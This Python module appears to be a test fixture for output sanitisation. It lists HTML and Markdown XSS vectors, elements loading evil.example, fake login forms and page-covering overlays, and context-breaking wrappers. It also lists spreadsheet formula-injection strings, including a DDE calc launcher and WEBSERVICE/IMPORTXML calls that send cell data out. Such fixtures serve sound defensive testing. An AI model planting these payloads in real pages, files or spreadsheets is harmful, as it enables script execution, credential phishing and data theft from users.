"""Texts that would do something if a page let them: run a script, load an address, post a form, cover it."""

from itertools import product

MARK = "window.__ran=1"
"""What every script in these texts would do."""
FAR = "https://evil.example"

SCRIPTS = (
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={MARK}>",
    f"<img/src=`x`/onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}></select>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<object data='data:text/html,<script>{MARK}</script>'></object>",
    f"<template><script>{MARK}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'></noscript>",
)
"""Elements that run something by themselves."""
ADDRESSES = (
    f"<img src={FAR}/i.png>",
    f"<link rel=stylesheet href={FAR}/s.css>",
    f"<style>@import '{FAR}/s.css'; body{{background:url({FAR}/b.png)}}</style>",
    f"<div style='background:url({FAR}/d.png)'>x</div>",
    f"<iframe src={FAR}></iframe>",
    f"<embed src={FAR}/e.swf>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}/>",
    f"![alt]({FAR}/m.png)",
    f"![alt][r]\n\n[r]: {FAR}/r.png",
    f"[text]({FAR})",
    f"[text](javascript:{MARK})",
    f"[text](data:text/html,<script>{MARK}</script>)",
    f"<{FAR}>",
    f"<a href='javascript:{MARK}'>x</a>",
    f"<a href={FAR} ping={FAR}/p target=_blank>x</a>",
)
"""Elements and Markdown that load or open another address."""
COVERS = (
    f"<form action={FAR} method=post><input name=password><button>Log in again</button></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:white'>Your session has ended</div>",
    "<dialog open style='position:fixed'>Pay here</dialog>",
    "<style>body *{display:none!important}</style>",
    "<button data-do=remove data-name=returns.md>Click</button>",
    "<textarea>",
    "<!--",
    "<plaintext>",
    "<title>",
)
"""Elements that ask for something in the page's name, cover it or swallow the rest of it."""
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</textarea></title></style>{}",
    "```html\n{}\n```",
    "| a | {} |\n|---|---|\n| b | c |",
    "> - **{}**",
    "&lt;{}&gt;",
)
"""What would let a text out of where it stands."""

PAYLOADS = tuple(
    wrapping.replace("{}", text) for text, wrapping in product(SCRIPTS + ADDRESSES + COVERS, WRAPPINGS)
)

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "a;=1", "a\t=1+2", "a\n=1+2", "a|=1"),
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "＝1+1",
    "＋1",
    '"=1',
    'a";=1+1',
    "a,=1+1",
    "%0A=1",
)
"""Texts that a spreadsheet would calculate, if it took them for formulas."""
